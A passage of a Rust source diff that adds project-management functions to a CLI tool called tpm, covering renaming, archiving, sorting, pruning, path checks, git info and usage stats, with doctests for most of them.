+    let contents = fs::read_to_string(&projects_file).unwrap_or_default();
+    let draft = get_config_dir()?.join(format!(".projects-edit.{}", format.extension()));
+    fs::write(&draft, contents)?;
+    let draft_str = draft.to_str().ok_or("Problem converting path to string")?;
+
+    loop {
+        open_in_editor(draft_str, &OpenOptions::default())?;
+        let edited = fs::read_to_string(&draft)?;
+        let parsed = format.parse(&edited).and_then(|mut projects| {
+            absolutize_project_paths(&mut projects);
+            validate_projects(projects, true)
+        });
+        match parsed {
+            Ok(mut projects) => {
+                fs::remove_file(&draft)?;
+                confirm_new_on_open_commands(&mut projects, &get_projects()?);
+                save_projects(&projects)?;
+                return Ok(format!("Saved {} projects", projects.len()));
+            }
+            Err(err) => {
+                println!("{}", err);
+                // not `confirm`, so `--yes` can't reopen the editor forever
+                let reopen = Confirm::with_theme(&ColorfulTheme::default())
+                    .with_prompt("Reopen the editor to fix it?")
+                    .default(true)
+                    .interact()
+                    .unwrap_or(false);
+                if !reopen {
+                    fs::remove_file(&draft)?;
+                    return Err(format!("Projects file not changed: {}", err).into());
+                }
+            }
+        }
+    }
+}
+
+/// Prompts for a project directory until the user enters one that exists,
+/// offering to create it if it doesn't. Returns `None` if the user keeps the
+/// current path.
+fn prompt_for_project_dir(current_path: &str) -> Result<Option<PathBuf>, DynErr> {
+    loop {
+        let new_path = Input::<String>::new()
+            .with_prompt("Project path")
+            .default(current_path.to_string())
+            .interact_text()?;
+        let expanded = expand_path(&new_path)?;
+        if !expanded.exists() {
+            let selection = Select::with_theme(&ColorfulTheme::default())
+                .with_prompt(format!("{} does not exist", expanded.display()))
+                .items(&["Create it", "Re-enter path", "Keep current path"])
+                .default(0)
+                .interact_opt()?;
+            match selection {
+                Some(0) => fs::create_dir_all(&expanded)?,
+                Some(1) => continue,
+                _ => return Ok(None),
+            }
+        }
+        match resolve_project_dir(&new_path) {
+            Ok(path) => return Ok(Some(path)),
+            Err(err) => println!("{}", err),
+        }
+    }
+}
+
+/// Expands and canonicalizes a project path.
+///
+/// Returns an error if the path doesn't exist or isn't a directory.
+///
+/// # Examples
+///
+/// ```
+/// use std::env;
+/// use tpm_lib::resolve_project_dir;
+///
+/// let cwd = env::current_dir().unwrap().canonicalize().unwrap();
+/// assert_eq!(resolve_project_dir(".").unwrap(), cwd);
+/// assert!(resolve_project_dir("/no/such/dir").is_err());
+/// assert!(resolve_project_dir("Cargo.toml").is_err());
+/// ```
+pub fn resolve_project_dir(raw: &str) -> Result<PathBuf, DynErr> {
+    let path = expand_path(raw)?;
+    if !path.exists() {
+        return Err(format!("{} does not exist", path.display()).into());
+    }
+    if !path.is_dir() {
+        return Err(format!("{} is not a directory", path.display()).into());
+    }
+
+    Ok(path.canonicalize()?)
+}
+
+/// Returns an error if a project other than `current_name` is already named
+/// `new_name`.
+///
+/// # Examples
+///
+/// ```
+/// use tpm_lib::{check_name_available, Project};
+///
+/// let projects: Vec<Project> = serde_json::from_str(
+///     r#"[
+///         {"name": "foo", "path": "/code/foo", "last_opened": {"secs": 0, "nanos": 0}},
+///         {"name": "bar", "path": "/code/bar", "last_opened": {"secs": 0, "nanos": 0}}
+///     ]"#,
+/// )
+/// .unwrap();
+///
+/// assert!(check_name_available(&projects, "foo", "bar").is_err());
+/// assert!(check_name_available(&projects, "foo", " bar ").is_err());
+/// assert!(check_name_available(&projects, "foo", "foo").is_ok());
+/// assert!(check_name_available(&projects, "foo", "baz").is_ok());
+/// ```
+pub fn check_name_available(
+    projects: &[Project],
+    current_name: &str,
+    new_name: &str,
+) -> Result<(), DynErr> {
+    let new_name = new_name.trim();
+    if projects
+        .iter()
+        .filter(|project| project.name != current_name)
+        .any(|project| project.is_named(new_name))
+    {
+        return Err(format!("A project named {} already exists", new_name).into());
+    }
+
+    Ok(())
+}
+
+/// Returns an error if a project other than `current_name` already points to
+/// `path`.
+///
+/// # Examples
+///
+/// ```
+/// use tpm_lib::{check_path_available, Project};
+///
+/// let projects = [
+///     Project::new("foo", "/code/foo").unwrap(),
+///     Project::new("bar", "/code/bar").unwrap(),
+/// ];
+///
+/// assert!(check_path_available(&projects, "foo", "/code/bar/").is_err());
+/// assert!(check_path_available(&projects, "foo", "/code/foo").is_ok());
+/// assert!(check_path_available(&projects, "foo", "/code/baz").is_ok());
+/// ```
+pub fn check_path_available(
+    projects: &[Project],
+    current_name: &str,
+    path: &str,
+) -> Result<(), DynErr> {
+    match projects
+        .iter()
+        .filter(|project| project.name != current_name)
+        .find(|project| paths_equal(&project.path, path))
+    {
+        Some(existing) => {
+            Err(format!("Project {} already points to {}", existing.name, path).into())
+        }
+        None => Ok(()),
+    }
+}
+
+/// Returns an error if any of `aliases` is already the name or an alias of a
+/// project other than `current_name`, or is `current_name` itself.
+///
+/// # Examples
+///
+/// ```
+/// use tpm_lib::{check_aliases_available, Project};
+///
+/// let projects: Vec<Project> = serde_json::from_str(
+///     r#"[
+///         {"name": "foo", "path": "/code/foo", "last_opened": {"secs": 0, "nanos": 0}},
+///         {"name": "bar", "path": "/code/bar", "last_opened": {"secs": 0, "nanos": 0}, "aliases": ["b"]}
+///     ]"#,
+/// )
+/// .unwrap();
+///
+/// assert!(check_aliases_available(&projects, "foo", &["f".to_string()]).is_ok());
+/// assert!(check_aliases_available(&projects, "foo", &["bar".to_string()]).is_err());
+/// assert!(check_aliases_available(&projects, "foo", &["b".to_string()]).is_err());
+/// assert!(check_aliases_available(&projects, "foo", &["foo".to_string()]).is_err());
+/// ```
+pub fn check_aliases_available(
+    projects: &[Project],
+    current_name: &str,
+    aliases: &[String],
+) -> Result<(), DynErr> {
+    for alias in aliases.iter().map(|alias| alias.trim()) {
+        if alias == current_name {
+            return Err(format!("{} is already the project's name", alias).into());
+        }
+        if let Some(project) = projects
+            .iter()
+            .filter(|project| project.name != current_name)
+            .find(|project| project.is_named(alias))
+        {
+            return Err(format!("{} is already used by project {}", alias, project.name).into());
+        }
+    }
+
+    Ok(())
+}
+
+/// Finds the project whose path is `path`, comparing them with [`paths_equal`].
+///
+/// # Examples
+///
+/// ```
+/// # let tmp = std::env::temp_dir().join(format!("tpm-doctest-{}", std::process::id()));
+/// # let _ = std::fs::remove_dir_all(&tmp);
+/// # std::fs::create_dir_all(&tmp).unwrap();
+/// # std::env::set_var("HOME", &tmp);
+/// # std::env::set_var("XDG_CONFIG_HOME", tmp.join(".config"));
+/// use tpm_lib::{add_project, find_project_by_path, get_projects};
+///
+/// let dir = tmp.join("duplicate-path");
+/// std::fs::create_dir_all(&dir).unwrap();
+/// let path = dir.to_str().unwrap();
+/// add_project("duplicate-path-example", path, &[], "").unwrap();
+///
+/// // the same directory isn't added twice under another name
+/// assert!(add_project("duplicate-path-other-name", path, &[], "").is_err());
+/// let projects = get_projects().unwrap();
+/// let existing = find_project_by_path(&projects, &format!("{}/", path)).unwrap();
+/// assert_eq!(existing.name(), "duplicate-path-example");
+/// assert!(find_project_by_path(&projects, "/no/such/project").is_none());
+/// # std::fs::remove_dir_all(&tmp).unwrap();
+/// ```
+pub fn find_project_by_path<'a>(projects: &'a [Project], path: &str) -> Option<&'a Project> {
+    projects
+        .iter()
+        .find(|project| paths_equal(&project.path, path))
+}
+
+/// Finds the project named `query`, or with `query` as one of its aliases.
+///
+/// # Examples
+///
+/// ```
+/// use tpm_lib::{find_project_by_name_or_alias, Project};
+///
+/// let projects: Vec<Project> = serde_json::from_str(
+///     r#"[
+///         {"name": "travvy-project-manager", "path": "/code/tpm", "last_opened": {"secs": 0, "nanos": 0}, "aliases": ["tpm"]}
+///     ]"#,
+/// )
+/// .unwrap();
+///
+/// let by_alias = find_project_by_name_or_alias(&projects, "tpm").unwrap();
+/// assert_eq!(by_alias.to_string(), "travvy-project-manager (/code/tpm)");
+/// assert!(find_project_by_name_or_alias(&projects, "travvy-project-manager").is_some());
+/// assert!(find_project_by_name_or_alias(&projects, "travvy").is_none());
+/// ```
+pub fn find_project_by_name_or_alias<'a>(
+    projects: &'a [Project],
+    query: &str,
+) -> Option<&'a Project> {
+    projects
+        .iter()
+        .find(|project| project.name == query)
+        .or_else(|| projects.iter().find(|project| project.is_named(query)))
+}
+
+/// Renames a project, leaving its path and last opened time untouched. The
+/// workspaces it's in refer to it by the new name.
+///
+/// Returns an error if no project is named `old_name` or if another project
+/// is already named `new_name`.
+///
+/// # Examples
+///
+/// ```
+/// # let tmp = std::env::temp_dir().join(format!("tpm-doctest-{}", std::process::id()));
+/// # let _ = std::fs::remove_dir_all(&tmp);
+/// # std::fs::create_dir_all(&tmp).unwrap();
+/// # std::env::set_var("HOME", &tmp);
+/// # std::env::set_var("XDG_CONFIG_HOME", tmp.join(".config"));
+/// use std::fs;
+/// use tpm_lib::{add_project, get_projects, rename_project};
+///
+/// let dir = tmp.join("rename");
+/// fs::create_dir_all(&dir).unwrap();
+/// add_project("rename-example", dir.to_str().unwrap(), &[], "").unwrap();
+/// let before = get_projects().unwrap();
+/// let before = before.iter().find(|p| p.to_string().starts_with("rename-example ")).unwrap();
+///
+/// rename_project("rename-example", "renamed-example").unwrap();
+///
+/// let after = get_projects().unwrap();
+/// let after = after.iter().find(|p| p.to_string().starts_with("renamed-example ")).unwrap();
+/// let mut expected = before.clone();
+/// expected.rename("renamed-example").unwrap();
+/// assert_eq!(after, &expected);
+/// # std::fs::remove_dir_all(&tmp).unwrap();
+/// ```
+pub fn rename_project(old_name: &str, new_name: &str) -> Result<String, DynErr> {
+    let mut projects = get_projects()?;
+    let new_name = new_name.trim();
+    check_name_available(&projects, old_name, new_name)?;
+
+    let project = projects
+        .iter_mut()
+        .find(|project| project.name == old_name)
+        .ok_or_else(|| format!("Project {} not found", old_name))?;
+    project.rename(new_name)?;
+    let new_name = project.name.clone();
+    save_projects(&projects)?;
+    rename_workspace_member(old_name, &new_name)?;
+
+    Ok(format!("Renamed {} to {}!", old_name, new_name))
+}
+
+/// Archives a project, hiding it from the project lists without deleting it.
+///
+/// Returns an error if no project is named `name`.
+pub fn archive_project(name: &str) -> Result<String, DynErr> {
+    set_archived(name, true)?;
+    Ok(format!("Archived {}!", name))
+}
+
+/// Unarchives a project so it shows up in the project lists again.
+///
+/// Returns an error if no project is named `name`.
+///
+/// # Examples
+///
+/// ```
+/// # let tmp = std::env::temp_dir().join(format!("tpm-doctest-{}", std::process::id()));
+/// # let _ = std::fs::remove_dir_all(&tmp);
+/// # std::fs::create_dir_all(&tmp).unwrap();
+/// # std::env::set_var("HOME", &tmp);
+/// # std::env::set_var("XDG_CONFIG_HOME", tmp.join(".config"));
+/// use std::fs;
+/// use tpm_lib::{add_project, archive_project, get_projects, unarchive_project};
+///
+/// let dir = tmp.join("archive");
+/// fs::create_dir_all(&dir).unwrap();
+/// add_project("archive-example", dir.to_str().unwrap(), &[], "").unwrap();
+///
+/// archive_project("archive-example").unwrap();
+/// let project = get_projects().unwrap().into_iter().find(|p| p.to_string().starts_with("archive-example ")).unwrap();
+/// assert!(project.is_archived());
+///
+/// unarchive_project("archive-example").unwrap();
+/// let project = get_projects().unwrap().into_iter().find(|p| p.to_string().starts_with("archive-example ")).unwrap();
+/// assert!(!project.is_archived());
+///
+/// assert!(archive_project("no-such-project").is_err());
+/// # std::fs::remove_dir_all(&tmp).unwrap();
+/// ```
+pub fn unarchive_project(name: &str) -> Result<String, DynErr> {
+    set_archived(name, false)?;
+    Ok(format!("Unarchived {}!", name))
+}
+
+fn set_archived(name: &str, archived: bool) -> Result<(), DynErr> {
+    let mut projects = get_projects()?;
+    let project = projects
+        .iter_mut()
+        .find(|project| project.name == name)
+        .ok_or_else(|| format!("Project {} not found", name))?;
+    project.archived = archived;
+    save_projects(&projects)
+}
+
+/// Returns the `origin` remote URL and current branch of the git repository
+/// at `path`.
+///
+/// Either is `None` if git isn't installed, `path` isn't a git repository, or
+/// the value can't be determined (e.g. there is no `origin` remote).
+///
+/// # Examples
+///
+/// ```
+/// # let tmp = std::env::temp_dir().join(format!("tpm-doctest-{}", std::process::id()));
+/// # let _ = std::fs::remove_dir_all(&tmp);
+/// # std::fs::create_dir_all(&tmp).unwrap();
+/// # std::env::set_var("HOME", &tmp);
+/// # std::env::set_var("XDG_CONFIG_HOME", tmp.join(".config"));
+/// use std::fs;
+/// use tpm_lib::detect_git_info;
+///
+/// let dir = tmp.join("not-a-git-repo");
+/// fs::create_dir_all(&dir).unwrap();
+/// assert_eq!(detect_git_info(&dir), (None, None));
+/// # std::fs::remove_dir_all(&tmp).unwrap();
+/// ```
+pub fn detect_git_info(path: &Path) -> (Option<String>, Option<String>) {
+    let git = |args: &[&str]| {
+        let output = Command::new("git")
+            .arg("-C")
+            .arg(path)
+            .args(args)
+            .stdin(Stdio::null())
+            .stderr(Stdio::null())
+            .output()
+            .ok()?;
+        let value = String::from_utf8(output.stdout).ok()?.trim().to_string();
+        (output.status.success() && !value.is_empty()).then_some(value)
+    };
+
+    (
+        git(&["remote", "get-url", "origin"]),
+        git(&["rev-parse", "--abbrev-ref", "HEAD"]),
+    )
+}
+
+/// How to sort a list of projects.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
+pub enum SortKey {
+    /// Most recently opened first, then by name
+    #[default]
+    Recent,
+    /// Alphabetically by name, ignoring case
+    Name,
+    /// Alphabetically by path, which groups projects in the same directory
+    Path,
+    /// Most recently added first
+    Created,
+}
+
+impl std::str::FromStr for SortKey {
+    type Err = DynErr;
+
+    fn from_str(s: &str) -> Result<Self, Self::Err> {
+        match s {
+            "recent" => Ok(SortKey::Recent),
+            "name" => Ok(SortKey::Name),
+            "path" => Ok(SortKey::Path),
+            "created" => Ok(SortKey::Created),
+            _ => Err(format!("Invalid sort: {s}. Valid sorts: recent, name, path, created").into()),
+        }
+    }
+}
+
+/// Sorts projects by `by`. Projects that compare equal keep their order.
+///
+/// # Examples
+///
+/// ```
+/// use tpm_lib::{sort_projects, Project, SortKey};
+///
+/// let mut projects: Vec<Project> = serde_json::from_str(
+///     r#"[
+///         {"name": "b", "path": "/code/z", "last_opened": {"secs": 1, "nanos": 0}, "created_at": {"secs": 3, "nanos": 0}},
+///         {"name": "C", "path": "/code/x", "last_opened": {"secs": 3, "nanos": 0}, "created_at": {"secs": 1, "nanos": 0}},
+///         {"name": "a", "path": "/code/y", "last_opened": {"secs": 2, "nanos": 0}, "created_at": {"secs": 2, "nanos": 0}}
+///     ]"#,
+/// )
+/// .unwrap();
+/// let mut sorted = |by| {
+///     sort_projects(&mut projects, by);
+///     projects.iter().map(|p| p.to_string()).collect::<Vec<_>>().join(", ")
+/// };
+///
+/// assert_eq!(sorted(SortKey::Recent), "C (/code/x), a (/code/y), b (/code/z)");
+/// assert_eq!(sorted(SortKey::Name), "a (/code/y), b (/code/z), C (/code/x)");
+/// assert_eq!(sorted(SortKey::Path), "C (/code/x), a (/code/y), b (/code/z)");
+/// assert_eq!(sorted(SortKey::Created), "b (/code/z), a (/code/y), C (/code/x)");
+/// assert!("size".parse::<SortKey>().is_err());
+/// ```
+pub fn sort_projects(projects: &mut [Project], by: SortKey) {
+    match by {
+        SortKey::Recent => {
+            projects.sort_by(|a, b| b.last_opened.cmp(&a.last_opened).then_with(|| a.cmp(b)))
+        }
+        SortKey::Name => projects.sort_by_key(|p| p.name.to_lowercase()),
+        SortKey::Path => projects.sort_by(|a, b| a.path.cmp(&b.path)),
+        SortKey::Created => projects.sort_by_key(|p| std::cmp::Reverse(p.created_at)),
+    }
+}
+
+/// Returns the `n` most recently opened projects, most recent first.
+///
+/// # Examples
+///
+/// ```
+/// use tpm_lib::{recent_projects, Project};
+///
+/// let projects: Vec<Project> = serde_json::from_str(
+///     r#"[
+///         {"name": "old", "path": "/", "last_opened": {"secs": 1, "nanos": 0}},
+///         {"name": "new", "path": "/", "last_opened": {"secs": 2, "nanos": 0}}
+///     ]"#,
+/// )
+/// .unwrap();
+///
+/// let recent = recent_projects(&projects, 1);
+/// assert_eq!(recent.len(), 1);
+/// assert_eq!(recent[0].to_string(), "new (/)");
+/// assert_eq!(recent_projects(&projects, 10).len(), 2);
+/// ```
+pub fn recent_projects(projects: &[Project], n: usize) -> Vec<&Project> {
+    let mut recent = projects.iter().collect::<Vec<_>>();
+    recent.sort_by_key(|p| std::cmp::Reverse(p.last_opened));
+    recent.truncate(n);
+    recent
+}
+
+/// Describes how long ago `time`, a duration since the Unix epoch, was, like
+/// "just now" or "3 days ago". A zero duration means "never".
+///
+/// # Examples
+///
+/// ```
+/// use std::time::{Duration, SystemTime};
+/// use tpm_lib::format_relative_time;
+///
+/// let now = SystemTime::now().duration_since(SystemTime::UNIX_EPOCH).unwrap();
+/// let ago = |secs| now - Duration::from_secs(secs);
+///
+/// assert_eq!(format_relative_time(Duration::ZERO), "never");
+/// assert_eq!(format_relative_time(now), "just now");
+/// assert_eq!(format_relative_time(ago(60)), "1 minute ago");
+/// assert_eq!(format_relative_time(ago(5 * 60 * 60)), "5 hours ago");
+/// assert_eq!(format_relative_time(ago(3 * 24 * 60 * 60)), "3 days ago");
+/// assert_eq!(format_relative_time(ago(62 * 24 * 60 * 60)), "2 months ago");
+/// assert_eq!(format_relative_time(ago(800 * 24 * 60 * 60)), "2 years ago");
+/// assert_eq!(format_relative_time(now + Duration::from_secs(60)), "just now");
+/// ```
+pub fn format_relative_time(time: Duration) -> String {
+    if time.is_zero() {
+        return "never".to_string();
+    }
+    let now = SystemTime::now()
+        .duration_since(SystemTime::UNIX_EPOCH)
+        .unwrap_or_default();
+    let secs = now.saturating_sub(time).as_secs();
+    let units = [
+        (365 * 24 * 60 * 60, "year"),
+        (30 * 24 * 60 * 60, "month"),
+        (24 * 60 * 60, "day"),
+        (60 * 60, "hour"),
+        (60, "minute"),
+    ];
+    for (unit_secs, unit) in units {
+        let count = secs / unit_secs;
+        if count == 1 {
+            return format!("1 {} ago", unit);
+        }
+        if count > 1 {
+            return format!("{} {}s ago", count, unit);
+        }
+    }
+
+    "just now".to_string()
+}
+
+/// Returns the projects whose path doesn't exist or isn't a directory.
+///
+/// # Examples
+///
+/// ```
+/// use tpm_lib::{projects_with_missing_paths, Project};
+///
+/// let projects: Vec<Project> = serde_json::from_str(
+///     r#"[
+///         {"name": "ok", "path": "/", "last_opened": {"secs": 0, "nanos": 0}},
+///         {"name": "moved", "path": "/no/such/dir", "last_opened": {"secs": 0, "nanos": 0}}
+///     ]"#,
+/// )
+/// .unwrap();
+///
+/// let missing = projects_with_missing_paths(&projects);
+/// assert_eq!(missing.len(), 1);
+/// assert_eq!(missing[0].to_string(), "moved (/no/such/dir)");
+/// ```
+pub fn projects_with_missing_paths(projects: &[Project]) -> Vec<&Project> {
+    let missing = with_progress("Checking", projects, |project| {
+        project.canonical_project_path().is_err()
+    });
+    projects
+        .iter()
+        .zip(missing)
+        .filter(|(_, missing)| *missing)
+        .map(|(project, _)| project)
+        .collect()
+}
+
+/// Calls `f` on each item in turn, returning the results, while showing a
+/// "Scanning 23/40..." style counter on stderr.
+///
+/// The counter is only shown if stderr is a terminal, and is cleared when
+/// done, so the command's own summary line is all that's left.
+///
+/// # Examples
+///
+/// ```
+/// use tpm_lib::with_progress;
+///
+/// let lengths = with_progress("Measuring", &["a", "bb", "ccc"], |item| item.len());
+/// assert_eq!(lengths, [1, 2, 3]);
+/// ```
+pub fn with_progress<T, R>(label: &str, items: &[T], mut f: impl FnMut(&T) -> R) -> Vec<R> {
+    let term = console::Term::stderr();
+    let show = term.is_term() && !items.is_empty();
+    let mut results = Vec::with_capacity(items.len());
+    for (i, item) in items.iter().enumerate() {
+        if show {
+            let _ = term.write_str(&format!("\r{} {}/{}...", label, i + 1, items.len()));
+        }
+        results.push(f(item));
+    }
+    if show {
+        let _ = term.clear_line();
+    }
+    results
+}
+
+/// Describes where `tpm` keeps its files, the detected shell and editor, and
+/// how many projects there are, for `tpm info`.
+pub fn get_info() -> Result<String, DynErr> {
+    let config_dir = get_config_dir()?;
+    let (projects_file, _) = get_projects_file()?;
+    let shell = detect_shell();
+    let editor = load_config().editor.unwrap_or_else(resolve_editor);
+    let projects = get_projects()?;
+
+    Ok(format!(
+        "Config directory: {}\nProjects file: {}\nShell: {}\nEditor: {}\nProjects: {}",
+        config_dir.display(),
+        projects_file.display(),
+        shell,
+        editor,
+        projects.len()
+    ))
+}
+
+/// Returns the projects last opened more than `cutoff` before `now`, both
+/// measured from the Unix epoch. A project that was never opened counts from
+/// when it was added, so one just found by `add --scan` isn't old.
+///
+/// # Examples
+///
+/// ```
+/// use std::time::Duration;
+/// use tpm_lib::{projects_older_than, Project};
+///
+/// let day = 24 * 60 * 60;
+/// let projects: Vec<Project> = serde_json::from_str(&format!(
+///     r#"[
+///         {{"name": "stale", "path": "/", "last_opened": {}}},
+///         {{"name": "fresh", "path": "/", "last_opened": {}}},
+///         {{"name": "never", "path": "/", "last_opened": 0}},
+///         {{"name": "scanned", "path": "/", "last_opened": 0, "created_at": {}}}
+///     ]"#,
+///     100 * day - 91 * day,
+///     100 * day - 89 * day,
+///     100 * day - day,
+/// ))
+/// .unwrap();
+///
+/// let now = Duration::from_secs(100 * day);
+/// let old = projects_older_than(&projects, Duration::from_secs(90 * day), now);
+/// let names = old.iter().map(|p| p.to_string()).collect::<Vec<_>>();
+/// assert_eq!(names, ["stale (/)", "never (/)"]);
+/// ```
+pub fn projects_older_than(projects: &[Project], cutoff: Duration, now: Duration) -> Vec<&Project> {
+    let since = now.saturating_sub(cutoff);
+    projects
+        .iter()
+        .filter(|project| project.last_opened.max(project.created_at) < since)
+        .collect()
+}
+
+/// Returns the unarchived project opened most recently, if there is one.
+///
+/// # Examples
+///
+/// ```
+/// use tpm_lib::{most_recent_project, Project};
+///
+/// let projects: Vec<Project> = serde_json::from_str(
+///     r#"[
+///         {"name": "older", "path": "/", "last_opened": 1697000000},
+///         {"name": "newest", "path": "/", "last_opened": 1697500000},
+///         {"name": "never", "path": "/", "last_opened": 0}
+///     ]"#,
+/// )
+/// .unwrap();
+///
+/// assert_eq!(most_recent_project(&projects).unwrap().to_string(), "newest (/)");
+/// assert!(most_recent_project(&[]).is_none());
+/// ```
+pub fn most_recent_project(projects: &[Project]) -> Option<&Project> {
+    projects
+        .iter()
+        .filter(|project| !project.archived)
+        .max_by_key(|project| project.last_opened)
+}
+
+/// Removes projects not opened in the last `days` days after listing them and
+/// asking for confirmation. Their directories are only deleted if
+/// `delete_dirs` is true.
+pub fn prune_projects(days: u64, delete_dirs: bool) -> Result<HandlerOutcome, DynErr> {
+    let projects = get_projects()?;
+    let now = SystemTime::now().duration_since(SystemTime::UNIX_EPOCH)?;
+    let cutoff = days
+        .checked_mul(24 * 60 * 60)
+        .ok_or_else(|| format!("{} days is too long", days))?;
+    let old = projects_older_than(&projects, Duration::from_secs(cutoff), now);
+    if old.is_empty() {
+        return Ok(HandlerOutcome::Message(format!(
+            "No projects older than {} days",
+            days
+        )));
+    }
+
+    for project in &old {
+        println!("{}  {}", project, format_relative_time(project.last_opened));
+    }
+    let prompt = if delete_dirs {
+        format!(
+            "Remove these {} projects and delete their directories?",
+            old.len()
+        )
+    } else {
+        format!("Remove these {} projects?", old.len())
+    };
+    if !confirm(&prompt, false)? {
+        return Ok(HandlerOutcome::Canceled);
+    }
+
+    let names = old
+        .iter()
+        .map(|project| project.name.as_str())
+        .collect::<Vec<_>>();
+    delete_projects(&names, delete_dirs, false).map(HandlerOutcome::Message)
+}
+
+/// Reports projects whose directory is missing and, when run interactively,
+/// offers to remove or re-point each one.
+pub fn run_doctor() -> Result<String, DynErr> {
+    let mut projects = get_projects()?;
+    let broken = projects_with_missing_paths(&projects)
+        .into_iter()
+        .cloned()
+        .collect::<Vec<_>>();
+    if broken.is_empty() {
+        return Ok("All project paths look good!".into());
+    }
+    if !console::user_attended() {
+        let lines = broken
+            .iter()
+            .map(|project| format!("Missing directory: {}", project))
+            .collect::<Vec<_>>();
+        return Ok(lines.join("\n"));
+    }
+
+    let (mut removed, mut repointed) = (0, 0);
+    for project in broken {
+        let selection = Select::with_theme(&ColorfulTheme::default())
+            .with_prompt(format!("{} is missing its directory", project))
+            .items(&["Remove", "Change path", "Skip"])
+            .default(0)
+            .interact_opt()?;
+        match selection {
+            Some(0) => {
+                projects.retain(|p| p.name != project.name);
+                removed += 1;
+            }
+            Some(1) => {
+                let new_path = Input::<String>::new()
+                    .with_prompt("New path")
+                    .with_initial_text(&project.path)
+                    .interact_text()?;
+                let new_path = expand_path(&new_path)?;
+                if !new_path.is_dir() {
+                    println!("{} is not a directory, skipping", new_path.display());
+                    continue;
+                }
+                let new_path = new_path.canonicalize()?;
+                let new_path = new_path
+                    .to_str()
+                    .ok_or("Problem converting path to string")?;
+                if let Err(err) = check_path_available(&projects, &project.name, new_path) {
+                    println!("{}, skipping", err);
+                    continue;
+                }
+                if let Some(p) = projects.iter_mut().find(|p| p.name == project.name) {
+                    p.set_path(new_path)?;
+                    repointed += 1;
+                }
+            }
+            Some(_) => continue,
+            None => break,
+        }
+    }
+    save_projects(&projects)?;
+
+    Ok(format!(
+        "Removed {} and re-pointed {} projects",
+        removed, repointed
+    ))
+}
+
+/// An overview of the projects, as shown by `tpm stats`.
+#[derive(Debug, Clone, Default, PartialEq)]
+pub struct ProjectStats {
+    /// Number of projects
+    pub total: usize,
+    /// Number of projects opened in the last 7 days
+    pub opened_last_7_days: usize,
+    /// Number of projects opened in the last 30 days
+    pub opened_last_30_days: usize,
+    /// The least recently opened project
+    pub least_recent: Option<Project>,
+    /// The most recently opened project
+    pub most_recent: Option<Project>,
+    /// Number of projects whose path no longer exists
+    pub missing_paths: usize,
+}
+
+impl fmt::Display for ProjectStats {
+    fn fmt(&self, f: &mut fmt::Formatter) -> fmt::Result {
+        let name = |project: &Option<Project>| {
+            project
+                .as_ref()
+                .map_or("-".to_string(), |project| project.name.clone())
+        };
+        writeln!(f, "Projects: {}", self.total)?;
+        writeln!(f, "Opened in the last 7 days: {}", self.opened_last_7_days)?;
+        writeln!(
+            f,
+            "Opened in the last 30 days: {}",
+            self.opened_last_30_days
+        )?;
+        writeln!(f, "Least recently opened: {}", name(&self.least_recent))?;
+        writeln!(f, "Most recently opened: {}", name(&self.most_recent))?;
+        write!(f, "Missing paths: {}", self.missing_paths)
+    }
+}
+
+/// Computes an overview of `projects` as of now.
+pub fn compute_stats(projects: &[Project]) -> Result<ProjectStats, DynErr> {
+    let now = SystemTime::now().duration_since(SystemTime::UNIX_EPOCH)?;
+    Ok(compute_stats_at(projects, now))
+}
+
+/// Computes an overview of `projects` as of `now`, the time since the Unix
+/// epoch.
+///
+/// # Examples
+///
+/// ```
+/// use std::time::Duration;
+/// use tpm_lib::{compute_stats_at, Project};
+///
+/// const DAY: u64 = 24 * 60 * 60;
+/// let projects: Vec<Project> = serde_json::from_str(&format!(
+///     r#"[
+///         {{"name": "today", "path": "/", "last_opened": {{"secs": {}, "nanos": 0}}}},
+///         {{"name": "last-week", "path": "/", "last_opened": {{"secs": {}, "nanos": 0}}}},
+///         {{"name": "last-year", "path": "/no/such/dir", "last_opened": {{"secs": 0, "nanos": 0}}}}
+///     ]"#,
+///     365 * DAY,
+///     355 * DAY,
+/// ))
+/// .unwrap();
+///
+/// let stats = compute_stats_at(&projects, Duration::from_secs(365 * DAY));
+/// assert_eq!(stats.total, 3);
+/// assert_eq!(stats.opened_last_7_days, 1);
+/// assert_eq!(stats.opened_last_30_days, 2);
+/// assert_eq!(stats.least_recent.unwrap().to_string(), "last-year (/no/such/dir)");
+/// assert_eq!(stats.most_recent.unwrap().to_string(), "today (/)");
+/// assert_eq!(stats.missing_paths, 1);
+/// ```
+pub fn compute_stats_at(projects: &[Project], now: Duration) -> ProjectStats {
+    const DAY: u64 = 24 * 60 * 60;
+    let opened_within = |days: u64| {
+        let since = now.saturating_sub(Duration::from_secs(days * DAY));
+        projects
+            .iter()
+            .filter(|project| project.last_opened >= since)
+            .count()
+    };
+
+    ProjectStats {
+        total: projects.len(),
+        opened_last_7_days: opened_within(7),
+        opened_last_30_days: opened_within(30),
+        least_recent: projects.iter().min_by_key(|p| p.last_opened).cloned(),
+        most_recent: projects.iter().max_by_key(|p| p.last_opened).cloned(),
+        missing_paths: projects
+            .iter()
+            .filter(|project| project.canonical_project_path().is_err())
+            .count(),
+    }
+}
+
+/// Marks a project as opened now, so it sorts first among recent projects,
+/// without opening it.
+///
+/// Returns an error if no project is named `name`.
+///
+/// # Examples
+///
+/// ```
+/// # let tmp = std::env::temp_dir().join(format!("tpm-doctest-{}", std::process::id()));
+/// # let _ = std::fs::remove_dir_all(&tmp);
+/// # std::fs::create_dir_all(&tmp).unwrap();
+/// # std::env::set_var("HOME", &tmp);
+/// # std::env::set_var("XDG_CONFIG_HOME", tmp.join(".config"));
+/// use std::fs;
+/// use tpm_lib::{add_project, get_projects, touch_project};
+///
+/// let dir = tmp.join("touch");
+/// fs::create_dir_all(&dir).unwrap();
+/// add_project("touch-example", dir.to_str().unwrap(), &[], "").unwrap();
+///
+/// touch_project("touch-example").unwrap();
+/// assert!(get_projects().unwrap()[0].to_string().starts_with("touch-example "));
+/// assert!(touch_project("no-such-project").is_err());
+/// # std::fs::remove_dir_all(&tmp).unwrap();
+/// ```
+pub fn touch_project(name: &str) -> Result<String, DynErr> {
+    let mut projects = get_projects()?;
+    let project = projects
+        .iter_mut()
+        .find(|project| project.name == name)
+        .ok_or_else(|| format!("Project {} not found", name))?;
+    project.set_last_opened()?;
+    sort_projects(&mut projects, SortKey::Recent);
+    save_projects(&projects)?;
+
+    Ok(format!("Touched {}!", name))
+}
+
+/// Moves a project's directory to `new_path` and updates the project's path.
+///
+/// Returns an error if no project is named `name` or if `new_path` already
+/// exists. Moves across filesystems copy the directory and then delete the
+/// original.
+///
+/// # Examples
+///
+/// ```
